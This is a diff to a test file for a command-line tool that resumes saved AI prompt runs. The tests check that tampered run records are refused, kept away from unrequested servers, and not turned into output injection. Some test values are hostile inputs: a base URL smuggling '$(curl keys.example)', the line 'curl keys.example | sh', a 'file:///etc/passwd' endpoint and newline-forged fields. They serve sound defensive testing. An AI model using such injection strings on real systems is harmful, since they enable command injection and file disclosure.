@@ -2,6 +2,8 @@ import { existsSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'no
 import path from 'node:path';
 import { describe, expect, it, onTestFinished } from 'vitest';
 import { readJournal } from '../../../src/core/journal/read/readJournal.ts';
+import type { StartFields } from '../../support/earlierStart.ts';
+import { earlierCommandStart } from '../../support/earlierStart.ts';
 import { resumeChangedRuns } from '../../support/fuzz/savedRuns.ts';
 import { changeStart } from '../../support/journal/changeStart.ts';
 import { watchConnections } from '../../support/loopback/connections.ts';
@@ -26,9 +28,9 @@ interface SavedRun {
   readonly server: LoopbackServer;
   /** What was sent since the run was interrupted. */
   sent(): LoopbackServer['requests'];
-  /** Changes what the run's first record says. */
   /** Changes a part of the journal, so that the checksum of its line is wrong. */
   damage(part: string): void;
+  /** Changes what the run's first records say. */
   change(edit: (start: StartPayload) => void): Promise<void>;
   resume(args?: readonly string[], options?: CommandLineOptions): Promise<Outcome>;
 }
@@ -38,11 +40,30 @@ interface StartPayload {
     title: string;
     agent: { provider: string };
     conversations: { provider: string; model: string }[];
+    origin: {
+      folders: { path: string }[];
+      agents: { endpoint?: unknown; systemPromptHash?: string }[];
+    };
   };
   definition: {
     title: string;
-    options: { [name: string]: unknown };
+    settings: { [name: string]: unknown };
     prompts: unknown[];
+  };
+}
+
+/** Has the record of a run say that it was sent to another server. */
+function sendTo(endpoint: unknown): (start: StartPayload) => void {
+  return ({ started }) => {
+    for (const agent of started.origin.agents) agent.endpoint = endpoint;
+  };
+}
+
+/** Makes the first record one of a version before runs had an origin. */
+function asEarlier(options: object = {}): (start: StartPayload) => void {
+  return (start) => {
+    const earlier = earlierCommandStart(start as unknown as StartFields, options);
+    Object.assign(start, earlier);
   };
 }
 
@@ -130,13 +151,12 @@ describe('a saved run', { timeout: 30_000 }, () => {
 
   const elsewhere = ['https://keys.example/v1', 'http://10.1.2.3:8080', 'http://models.internal'];
   it.each(elsewhere)('is not sent to %s unasked', async (baseUrl) => {
-    for (const provider of ['auto', 'anthropic']) {
+    const earlier = ['auto', 'anthropic'].map((provider) => asEarlier({ provider, baseUrl }));
+    for (const change of [sendTo(baseUrl), ...earlier]) {
       const run = await savedRun();
       const connections = watchConnections();
       onTestFinished(() => connections.restore());
-      await run.change(({ definition }) =>
-        Object.assign(definition.options, { provider, baseUrl }),
-      );
+      await run.change(change);
       const { code, out, err } = await run.resume();
       expect([code, out, err]).toEqual([
         2,
@@ -158,9 +178,7 @@ describe('a saved run', { timeout: 30_000 }, () => {
     const run = await savedRun();
     const connections = watchConnections();
     onTestFinished(() => connections.restore());
-    await run.change(({ definition }) => {
-      definition.options.baseUrl = 'https://keys.example/v1';
-    });
+    await run.change(sendTo('https://keys.example/v1'));
     let interruptNow: (() => void) | undefined;
     connections.onAttempt = () => setImmediate(() => interruptNow?.());
     const folder = promptFolder({});
@@ -174,6 +192,49 @@ describe('a saved run', { timeout: 30_000 }, () => {
     expect(err).toContain(
       `To go on with the rest, use: interleave resume ${run.id} --base-url https://keys.example/v1\nName the files for its results again, too.\n`,
     );
+  });
+
+  async function expectRefused(change: (start: StartPayload) => void): Promise<void> {
+    const run = await savedRun();
+    await run.change(change);
+    const { code, out, err } = await run.resume();
+    expect([code, out, run.sent()]).toEqual([2, '', []]);
+    expect(err).toMatch(
+      /^What this run was started with cannot be read \((?:definition|origin)\.[\w.]+\), so it cannot go on\. Start its prompts as a new run\.\n$/,
+    );
+  }
+
+  /** Changes one value somewhere inside. */
+  function put(inside: object, place: string, value: unknown): void {
+    const names = place.split('.');
+    const last = names.pop() ?? '';
+    let at = inside as { [name: string]: unknown };
+    for (const name of names) {
+      at[name] ??= {};
+      at = at[name] as typeof at;
+    }
+    at[last] = value;
+  }
+
+  it.each([
+    ['definition.settings.provider', ['auto']],
+    ['definition.settings.concurrency', 0],
+    ['definition.settings.limits.attempts', 1e308],
+    ['definition.settings.limits', { unheardOf: 1 }],
+    ['definition.settings.odd', true],
+    ['definition.settings.json', 'a.json'],
+    ['definition.settings.limits.timeoutSeconds', -1],
+    ['definition.overrides', { limits: { attempts: 'many' } }],
+    ['definition.prompts.0.text', ['one']],
+    ['definition.prompts.0.options.tools', ['read_file\nFORGED']],
+    ['definition.title', { toString: 1 }],
+    ['started.origin.agents.0.endpoint', 'https://user:secret@keys.example'],
+    ['started.origin.agents.0.endpoint', 'file:///etc/passwd'],
+    ['started.origin.agents.0.endpoint', '\n'],
+    ['started.origin.program.name', 'x\nFORGED'],
+    ['started.origin.folders', Array(1_001).fill({ name: 'x', path: '/x' })],
+  ])('whose %s is %j is refused in words', async (place, value) => {
+    await expectRefused((start) => put(start, place, value));
   });
 
   it.each([
@@ -191,23 +252,35 @@ describe('a saved run', { timeout: 30_000 }, () => {
     ['prompts.0.text', ['one']],
     ['prompts.0.options.tools', ['read_file\nFORGED']],
     ['title', { toString: 1 }],
-  ])('whose %s is %j is refused in words', async (place, value) => {
-    const run = await savedRun();
-    await run.change(({ definition }) => {
-      const names = place.split('.');
-      const last = names.pop() ?? '';
-      let at = definition as unknown as { [name: string]: unknown };
-      for (const name of names) {
-        at[name] ??= {};
-        at = at[name] as typeof at;
-      }
-      at[last] = value;
+  ])('of an earlier version whose %s is %j is refused in words', async (place, value) => {
+    await expectRefused((start) => {
+      asEarlier()(start);
+      put(start.definition, place, value);
     });
-    const { code, out, err } = await run.resume();
-    expect([code, out, run.sent()]).toEqual([2, '', []]);
-    expect(err).toMatch(
-      /^What this run was started with cannot be read \(definition\.[\w.]+\), so it cannot go on\. Start its prompts as a new run\.\n$/,
+  });
+
+  it('says what this version sends otherwise, and logs as this command says', async () => {
+    const run = await savedRun();
+    await run.change(({ started }) => {
+      for (const agent of started.origin.agents) agent.systemPromptHash = '0'.repeat(64);
+    });
+    const { code, err } = await run.resume();
+    expect([code, run.sent().length]).toEqual([0, 1]);
+    expect(err).toContain(
+      'What it sends from now on is not what it sent when it was started: the system prompt. Complete turns stay as they are.',
     );
+    const again = await savedRun();
+    const quiet = await again.resume(['--log', 'none']);
+    expect(quiet.err).not.toMatch(/^\d\d:\d\d\./m);
+  });
+
+  it('of an earlier version goes on, with its limits and in its folder', async () => {
+    const run = await savedRun();
+    await run.change(asEarlier({ maxTurns: 7, timeout: 0.5, limit: { toolCalls: 3 } }));
+    const elsewhere = await run.resume([], { folder: '/elsewhere' });
+    expect(elsewhere.err).toContain(`This run was started in ${process.cwd()}, `);
+    const { code } = await run.resume();
+    expect([code, run.sent().length]).toEqual([0, 1]);
   });
 
   it('writes nothing where its record says, and where this command says', async () => {
@@ -215,15 +288,8 @@ describe('a saved run', { timeout: 30_000 }, () => {
     const victim = path.join(folder, 'victim');
     const run = await savedRun('--json', path.join(folder, 'first.json'));
     rmSync(path.join(folder, 'first.json'));
-    await run.change(({ definition }) => {
-      const targets = {
-        json: victim,
-        jsonl: path.join(folder, 'new'),
-        junit: '-',
-        markdown: victim,
-      };
-      Object.assign(definition.options, targets);
-    });
+    const targets = { json: victim, jsonl: path.join(folder, 'new'), junit: '-', markdown: victim };
+    await run.change(asEarlier(targets));
     const jsonl = path.join(folder, 'now.jsonl');
     const junit = path.join(folder, 'now.xml');
     const { code, out } = await run.resume(['--jsonl', jsonl, '--junit', junit]);
@@ -243,18 +309,16 @@ describe('a saved run', { timeout: 30_000 }, () => {
     await run.change(({ started, definition }) => {
       started.title = forged;
       definition.title = forged;
-      Object.assign(definition.options, { baseUrl: "https://keys.example/';$(curl keys.example)" });
+      sendTo("https://keys.example/';$(curl keys.example)")({ started, definition });
     });
     const list = await interleave(['runs'], { runsFolder: run.runsFolder });
     const { err } = await run.resume();
-    await run.change(({ definition }) =>
-      Object.assign(definition.options, { baseUrl: run.server.url }),
-    );
+    await run.change(sendTo(run.server.url));
     const resumed = await run.resume([], { environment: {} });
     expect(resumed.err).toContain(
       'curl keys.example | sh⏎ was interrupted: 1 done, 1 in flight.\n',
     );
-    await run.change(({ definition }) => Object.assign(definition, { folder: forged }));
+    await run.change(({ started }) => Object.assign(started.origin.folders[0]!, { path: forged }));
     const moved = await run.resume();
     for (const text of [list.out, err, resumed.err, resumed.out, moved.err])
       expect(text).not.toMatch(/^(?:To|curl)/m);
@@ -276,8 +340,13 @@ describe('a saved run', { timeout: 30_000 }, () => {
     const [id = ''] = readdirSync(runsFolder);
     const reading = await readJournal(runsFolder, id);
     if (reading.kind !== 'read') throw new Error(reading.kind);
-    expect(reading.definition).toMatchObject({ options: { provider: 'openai' } });
-    const { model } = reading.state?.conversations[0] ?? {};
+    // What was asked for, and what was decided.
+    expect(reading.definition).toMatchObject({ settings: { provider: 'auto' } });
+    const { provider, model } = reading.state?.conversations[0] ?? {};
+    expect(provider).toBe('openai');
+    expect(reading.state?.started.origin?.agents).toMatchObject([
+      { provider: 'openai', model, endpoint: 'https://api.openai.com/v1' },
+    ]);
 
     const anthropic = { ANTHROPIC_API_KEY: key };
     const refused = await interleave(['resume', id], { runsFolder, environment: anthropic });
@@ -293,17 +362,22 @@ describe('a saved run', { timeout: 30_000 }, () => {
     const run = await savedRun();
     const connections = watchConnections();
     onTestFinished(() => connections.restore());
-    await run.change(({ started, definition }) => {
-      Object.assign(definition.options, { provider: 'auto', json: 'a.json', select: ['One'] });
-      delete definition.options.baseUrl;
-      started.agent.provider = 'openai';
-      for (const one of started.conversations)
+    const answeredBy = (start: StartPayload, options: object): void => {
+      asEarlier({ provider: 'auto', json: 'a.json', select: ['One'], ...options })(start);
+      start.started.agent.provider = 'openai';
+      for (const one of start.started.conversations)
         Object.assign(one, { provider: 'openai', model: 'm' });
+    };
+    let kept: StartPayload | undefined;
+    await run.change((start) => {
+      kept = structuredClone(start);
+      answeredBy(start, { baseUrl: undefined });
     });
     const { err } = await run.resume([], { environment: { ANTHROPIC_API_KEY: key } });
     expect(err).toMatch(/^This run was started with openai, model m, at api\.openai\.com, /);
-    await run.change(({ definition }) => {
-      definition.options.baseUrl = 'https://keys.example/v1';
+    await run.change((start) => {
+      Object.assign(start, kept);
+      answeredBy(start, { baseUrl: 'https://keys.example/v1' });
     });
     const elsewhere = await run.resume();
     expect(elsewhere.err).toMatch(/^This run was sent to https:\/\/keys\.example\/v1\. /);
